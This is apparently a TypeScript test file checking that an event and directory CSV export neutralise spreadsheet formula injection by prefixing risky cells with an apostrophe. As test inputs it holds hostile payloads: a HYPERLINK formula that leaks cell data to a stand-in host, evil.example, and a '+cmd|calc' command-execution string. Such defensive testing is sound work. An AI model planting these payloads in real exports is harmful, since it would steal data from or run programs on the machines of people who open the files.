// CSV formula injection: user text that starts like a formula is written as text in every CSV export.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { createTestApp, roleClients, type TestApp } from '../testing/test-app.ts';
import { csvSafeCell, csvSafeRows, csvUnescapeCell } from './csv-safety.ts';

let t: TestApp;
let c: Awaited<ReturnType<typeof roleClients>>;
before(async () => { t = await createTestApp({ demo: true }); c = await roleClients(t); });
after(async () => { await t.close(); });

const FORMULA = /^[=+\-@\t\r]/;
const cellsOf = (csv: string) => (parse(csv, { bom: true, relax_column_count: true }) as string[][]).flat();

test('cells starting with = + - @ tab or CR get an apostrophe; others and numbers are unchanged; import undoes it', () => {
  assert.deepEqual(['=1+2', '+7 123', '-x', '@SUM(A1)', '\t=x', 'ok', 'a=b', 5, -5, null].map(csvSafeCell),
    ["'=1+2", "'+7 123", "'-x", "'@SUM(A1)", "'\t=x", 'ok', 'a=b', 5, -5, null]);
  assert.deepEqual(csvSafeRows([{ a: '=x', b: 1 }]), [{ a: "'=x", b: 1 }]);
  for (const v of ['=1+2', '@x', 'plain', "'quoted"]) assert.equal(csvUnescapeCell(String(csvSafeCell(v))), v);
});

test('event CSV export and directory CSV export contain no formula cells from user text', async () => {
  const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
  await t.deps.database.sql.query(`UPDATE users SET name = $1`, [evil]);
  await t.deps.database.sql.query(`UPDATE profiles SET title = $1::jsonb`, [JSON.stringify({ ru: '@SUM(1+1)', en: '+cmd|calc', zh: '-2+3' })]);
  const events = (await c.organiser.get('/api/events')).json() as { id: string }[];
  let checkedMeetings = 0;
  for (const e of events) {
    const r = await c.organiser.get(`/api/events/${e.id}/export.csv`);
    assert.equal(r.statusCode, 200);
    const cells = cellsOf(r.body);
    assert.deepEqual(cells.filter((x) => FORMULA.test(x)), [], 'no cell starts like a formula');
    checkedMeetings += cells.filter((x) => x.startsWith(`'${evil}`)).length;
  }
  assert.ok(checkedMeetings > 0, 'the hostile names are in the export, as text');
  const dir = await c.organiser.get('/api/directory/export', { query: { format: 'csv' } });
  assert.equal(dir.statusCode, 200);
  const cells = cellsOf(dir.body);
  assert.deepEqual(cells.filter((x) => FORMULA.test(x)), []);
  assert.ok(cells.includes("'@SUM(1+1)") && cells.includes("'+cmd|calc"));
});
